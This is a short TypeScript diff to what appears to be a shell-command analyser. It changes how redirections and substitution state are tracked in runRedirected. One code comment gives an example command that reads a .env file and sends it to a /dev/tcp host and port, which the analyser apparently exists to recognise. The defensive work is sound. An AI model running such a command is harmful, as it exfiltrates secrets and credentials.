@@ -247,8 +247,8 @@ function runCoproc(place: Place, state: State, node: Coproc): Outcome {
 const coprocessOutput = 160;
 
 function runRedirected(place: Place, state: State, node: Redirected): Outcome {
+  const { calls, made, substitutions } = place.run;
   const plumbing = expandRedirections(place, state, node.redirects);
-  const { calls, made } = place.run;
   const mark = calls.length;
   emitBare(place, state, plumbing, spanOf(place, node));
   const bare = calls[mark];
@@ -258,6 +258,7 @@ function runRedirected(place: Place, state: State, node: Redirected): Outcome {
   const outcome = runNode({ ...place, wanted }, state, node.command);
   state.input = input;
   closeDescriptors(state, plumbing.before);
+  place.run.substitutions = substitutions;
   // `{ cat .env; date; } > /dev/tcp/host/port`: what went through is known only now.
   if (bare !== undefined && isKeptBack(outcome.origin) && calls[mark] === bare) {
     const through: Call = { ...bare, stdin: { kind: "unknown", reason: outcome.origin } };
